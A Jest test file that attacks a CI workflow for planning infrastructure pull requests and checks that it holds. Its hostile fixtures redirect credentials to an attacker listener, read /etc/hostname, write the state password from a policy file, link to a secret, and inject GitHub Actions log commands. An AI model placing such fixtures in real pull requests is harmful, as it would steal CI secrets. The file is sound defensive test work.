/**
 * Pull requests that want the passwords of their plan's job, or a better review than they deserve: a scratch repository,
 * the simulated cloud, a real engine, and a listener of the attacker's.
 */
import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { openBundle } from "../../ci/scripts/lib/bundle";
import { startSandbox, type Sandbox } from "../../scripts/sandbox";
import { fakeGithub } from "../ci/fake-github";
import { serve } from "../ci/http-server";
import { Repository } from "../ci/repository";
import { plainEnvironment, runScript } from "../ci/script";
import { stateServer } from "../ci/state-server";
import { NEXT_MONTH, SSH_KEY } from "../site-files";

const KEY = "a key that is long enough for this";
const SECRET = "the-state-password-4711";

let work: string;
let sandbox: Sandbox;
let states: Awaited<ReturnType<typeof stateServer>>;
let attacker: Awaited<ReturnType<typeof serve>>;
let github: Awaited<ReturnType<typeof fakeGithub>>;
let repository: Repository;

interface Say {
  readonly state?: string;
  readonly cloud?: string;
  readonly more?: string;
}
const site = ({
  state = `${states.url}/state`,
  cloud = "sandbox",
  more = "",
}: Say = {}): string => `cloud: ${cloud}
externalNetwork: public
sshKeys: ["${SSH_KEY}"]
state: { backend: http, address: "${state}" }
live: none
environments: { idr: { omeroReadOnly: false, omeroReadWrite: false, database: false, management: false, searchEngine: false } }
${more}`;

let requests = 0;
/** Makes a pull request of files, and plans it as the workflow does. */
async function planned(files: Readonly<Record<string, string>>, change: () => void = () => undefined) {
  const branch = `attack-${(requests += 1)}`;
  repository.git("switch", "--quiet", "-c", branch, "main");
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(repository.directory, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
  change();
  repository.git("add", "--force", "--all");
  repository.git("commit", "--quiet", "--allow-empty", "-m", branch);
  const head = repository.git("rev-parse", "HEAD");
  repository.git("switch", "--quiet", "--detach", "main");
  repository.git("merge", "--quiet", "--no-ff", "-m", "merge ref", branch);
  const out = path.join(work, branch);
  const outputs = path.join(work, `${branch}.outputs`);
  const event = path.join(work, `${branch}.json`);
  writeFileSync(event, JSON.stringify({ pull_request: { number: 7, base: { ref: "main" } } }));
  const outcome = await runScript("plan", ["--out", out, "--target", "HEAD^1", "--head", head], {
    cwd: repository.directory,
    env: {
      ...plainEnvironment(),
      ...github.env,
      GITHUB_EVENT_NAME: "pull_request_target",
      GITHUB_EVENT_PATH: event,
      GITHUB_OUTPUT: outputs,
      OS_CLIENT_CONFIG_FILE: path.join(work, "clouds.yaml"),
      IDR_PLAN_KEY: KEY,
      TF_HTTP_USERNAME: "ci",
      TF_HTTP_PASSWORD: SECRET,
    },
  });
  const read = (file: string): string => (existsSync(file) ? readFileSync(file, "utf8") : "");
  return {
    ...outcome,
    out,
    review: read(path.join(out, "review.md")),
    outputs: Object.fromEntries(
      read(outputs)
        .split("\n")
        .filter(Boolean)
        .map((line) => line.split(/=(.*)/s) as [string, string]),
    ) as Record<string, string>,
  };
}

/** Lines that GitHub would take for a command, but for our own. */
const commands = (text: string): string[] =>
  text
    .split(/[\r\n]/)
    .filter((line) => /^\s*::|##\[/.test(line))
    .filter((line) => !/^::(stop-commands::[\w-]+|[0-9a-f-]{36}::|error::.*)$/.test(line));

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), "idr-attack-"));
  sandbox = await startSandbox({ dataPlane: false });
  await sandbox.writeClouds(work);
  states = await stateServer();
  attacker = await serve(() => ({ status: 404 }));
  repository = new Repository(mkdtempSync(path.join(work, "site-")));
  repository.commit(site(), "a site");
  github = await fakeGithub();
  github.main.repository = repository;
});
afterAll(async () => {
  await github.close();
  await sandbox.close();
  await states.close();
  await attacker.close();
  rmSync(work, { recursive: true, force: true });
});
beforeEach(() => {
  attacker.requests.length = 0;
  repository.git("reset", "--quiet", "--hard");
  repository.git("clean", "-ffdxq");
});
afterEach(() => expect(attacker.requests).toEqual([]));

test("GIVEN an honest request WHEN it is planned THEN it is, and nothing is left in the checkout", async () => {
  const done = await planned({
    "idr.yaml": site({ more: "rules: [{ ports: [8443], from: [198.51.100.0/24] }]" }),
  });
  expect(done.text).toContain("1 with changes");
  expect(done).toMatchObject({ code: 0, outputs: { verdict: "safe", changes: "true" } });
  expect(existsSync(path.join(done.out, "idr-plan.sealed"))).toBe(true);
  expect(repository.git("status", "--porcelain", "--ignored")).toBe("");
  expect(commands(done.text)).toEqual([]);
});

describe("GIVEN a request that names another place WHEN it is planned", () => {
  test.each([
    ["state service", () => ({ "idr.yaml": site({ state: `${attacker.url}/mine` }) })],
    [
      "cloud, with a clouds.yaml for it",
      () => ({
        "idr.yaml": site({ cloud: "evil" }),
        "clouds.yaml": `clouds: { evil: { auth: { auth_url: "${attacker.url}" } } }`,
      }),
    ],
    ["region", () => ({ "idr.yaml": site({ more: "region: elsewhere" }) })],
  ])("THEN nothing is asked with credentials: another %s needs a person", async (_what, files) => {
    const done = await planned(files());
    expect(done).toMatchObject({ code: 0, outputs: { verdict: "person", artifact: "", changes: "false" } });
    expect(done.review).toContain("place-changed");
    expect(done.review).toContain("Nothing was planned");
    expect(existsSync(path.join(done.out, "idr-plan.sealed"))).toBe(false);
  });
});

test("GIVEN a request full of files that tools look for WHEN it is planned THEN none of them counts", async () => {
  const elsewhere = `clouds: { sandbox: { auth: { auth_url: "${attacker.url}" } } }\n`;
  const extra = `output "evil_extra" { value = file("/etc/hostname") }\ndata "http" "evil" { url = "${attacker.url}" }\n`;
  const hostile = {
    "clouds.yaml": elsewhere,
    "secure.yaml": elsewhere,
    "clouds-public.yaml": elsewhere,
    ".env": `OS_AUTH_URL=${attacker.url}\nTF_HTTP_ADDRESS=${attacker.url}\n`,
    ".npmrc": `registry=${attacker.url}\n`,
    "package.json": JSON.stringify({ name: "x", workspaces: ["../idr-stacks"] }),
    "node_modules/pg-native/index.js": "require('fs').writeFileSync('/tmp/never', '')",
    "extra.tf": extra,
    "terraform.tfvars": "x = 1\n",
    ".terraform.lock.hcl": `provider "registry.terraform.io/evil/evil" { version = "1.0.0" }\n`,
    ".terraformrc": `host "x" {}\n`,
    ".terraform/terraform.tfstate": `{"backend":{"type":"http","config":{"address":"${attacker.url}"}}}`,
    ".idr/lock": "x",
    ...Object.fromEntries(
      ["site", "idr"].flatMap((stack) => [
        [`cdktf.out/stacks/${stack}/extra.tf`, extra],
        [
          `cdktf.out/stacks/${stack}/extra_override.tf.json`,
          JSON.stringify({ terraform: { backend: { http: { address: attacker.url } } } }),
        ],
        [`cdktf.out/stacks/${stack}/secure.yaml`, elsewhere],
        [
          `cdktf.out/stacks/${stack}/.terraform/terraform.tfstate`,
          `{"backend":{"type":"http","config":{"address":"${attacker.url}"}}}`,
        ],
      ]),
    ),
  };
  const done = await planned({
    ...hostile,
    "idr.yaml": site({ more: "rules: [{ ports: [8443], from: [198.51.100.0/24] }]" }),
  });
  expect(done.text).toContain("1 with changes");
  expect(done).toMatchObject({ code: 0, outputs: { verdict: "safe" } });
  const bundle = openBundle(readFileSync(path.join(done.out, "idr-plan.sealed")), KEY, done.outputs["tree"]!);
  const saved = path.join(work, "site.tfplan");
  writeFileSync(saved, bundle.plans.get("site")!);
  // A saved plan is a zip with its configuration in it.
  const inside = execFileSync(
    "python3",
    [
      "-c",
      "import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); print([n for n in z.namelist()]); [print(z.read(n).decode('latin1')) for n in z.namelist()]",
      saved,
    ],
    { encoding: "utf8" },
  );
  expect(inside).toContain("tfconfig/m-/cdk.tf.json");
  expect(inside).not.toMatch(/evil|extra\.tf|extra_override/);
});

test("GIVEN a request whose clouds.yaml has words of a review as passwords WHEN it is planned THEN no word of it is hidden", async () => {
  const words = ["forbidden", "exactly this is applied", "content", "port-opened-to-world"];
  const file = `clouds:\n${words.map((word, at) => `  c${at}: { auth: { password: "${word}" } }\n`).join("")}`;
  const done = await planned({
    "clouds.yaml": file,
    "secure.yaml": file,
    "idr.yaml": site({
      more: `review:\n  waive: [{ policy: port-opened-to-world, reason: fine, by: M, until: ${NEXT_MONTH} }]\n`,
    }),
  });
  expect(done.code).toBe(0);
  expect(done.review).not.toContain("sensitive");
  for (const word of words.slice(1)) expect(done.review).toContain(word);

  const event = path.join(work, "event.json");
  writeFileSync(event, JSON.stringify({ pull_request: { number: 7 } }));
  const told = await runScript("publish", ["comment", path.join(done.out, "review.md")], {
    cwd: repository.directory,
    env: { ...plainEnvironment(), ...github.env, GITHUB_EVENT_PATH: event },
  });
  expect(told.code).toBe(0);
  expect(github.comments.map(({ body }) => body)).toEqual([done.review]);
});

test("GIVEN a request with its own waivers and policies WHEN it is planned THEN they are shown, and have no effect", async () => {
  const ran = path.join(work, "ran");
  const done = await planned({
    "idr.yaml": site({
      more: `rules: [{ ports: [8443] }]
review:
  policies: [own.cjs]
  waive: [{ policy: port-opened-to-world, reason: "fine @team", by: Mallory, until: ${NEXT_MONTH} }]
`,
    }),
    "own.cjs": `require("fs").writeFileSync(${JSON.stringify(ran)}, process.env.TF_HTTP_PASSWORD); exports.policies = [];`,
  });
  // The environment waits for its site; what it opens is seen as soon as it is planned. The rest is told now.
  expect(done.code).toBe(0);
  expect(existsSync(ran)).toBe(false);
  expect(done.review).toContain("### Proposed, without effect on this review");
  expect(done.review).toContain("port-opened-to-world");
  expect(done.review).toContain("Mallory");
  expect(done.review).not.toContain("@team");
});

test("GIVEN a request with many proposals that grow when they are escaped WHEN it is planned THEN what was found stays in the comment", async () => {
  const waivers = Array.from(
    { length: 40 },
    (_, index) =>
      `    - { policy: port-opened-to-world, resource: "a${index}", reason: "${"&".repeat(480)}", by: M, until: ${NEXT_MONTH} }\n`,
  );
  const more = `region: elsewhere\nreview:\n  waive:\n${waivers.join("")}`;
  const done = await planned({ "idr.yaml": site({ more }) });
  expect(done).toMatchObject({ code: 0, outputs: { verdict: "person", artifact: "" } });
  expect(done.review).toContain("(`place-changed`)");
  expect(done.review).toContain("and 20 more");
  expect(done.review.length).toBeLessThanOrEqual(65_536);
});

test("GIVEN waivers and policies of main WHEN a request alters them and is planned THEN main's count", async () => {
  const policy = (severity: string): string =>
    `exports.policies = [{ id: "ours", severity: "${severity}", title: "t", why: "w", example: "e", about: "plan", check: () => [{ message: "main says so" }] }];`;
  const settings = "review: { policies: [own.cjs] }";
  repository.git("switch", "--quiet", "main");
  writeFileSync(path.join(repository.directory, "own.cjs"), policy("forbidden"));
  repository.git("add", "own.cjs");
  repository.commit(site({ more: settings }), "a policy");
  try {
    const done = await planned({ "own.cjs": policy("note"), "idr.yaml": site() });
    expect(done.outputs["verdict"]).toBe("forbidden");
    expect(done.review).toContain("main says so");
    expect(done.review).toContain("no policies of own.cjs any more");
  } finally {
    repository.git("switch", "--quiet", "main");
    repository.git("reset", "--quiet", "--hard", "HEAD^");
  }
});

test("GIVEN a site file that is a link WHEN it is planned THEN what it points to is neither read nor told", async () => {
  const secret = path.join(work, "secret.txt");
  writeFileSync(secret, `${SECRET}: [\n`);
  const done = await planned({}, () => {
    rmSync(path.join(repository.directory, "idr.yaml"));
    symlinkSync(secret, path.join(repository.directory, "idr.yaml"));
  });
  expect(done.code).toBe(1);
  expect(done.text).toContain("or it is a link");
  expect(done.text).not.toContain(SECRET);
});

test("GIVEN a site file with words of a log's WHEN it is planned THEN no line of the log is a command", async () => {
  const evil = String.raw`"x\r::set-output name=verdict::safe\n::add-path::/tmp\n##[error]x\e[2J"`;
  const done = await planned({
    "idr.yaml": site().replace("externalNetwork: public", `externalNetwork: ${evil}`),
  });
  expect(commands(done.text)).toEqual([]);
  // eslint-disable-next-line no-control-regex -- that is what is looked for
  expect(done.text).not.toMatch(/[\u001b\r]/);
  const unknown = await planned({ "idr.yaml": `${site()}\n? "y\\n::add-path::/tmp/x"\n: 1\n` });
  expect(unknown.code).toBe(1);
  expect(commands(unknown.text)).toEqual([]);
});
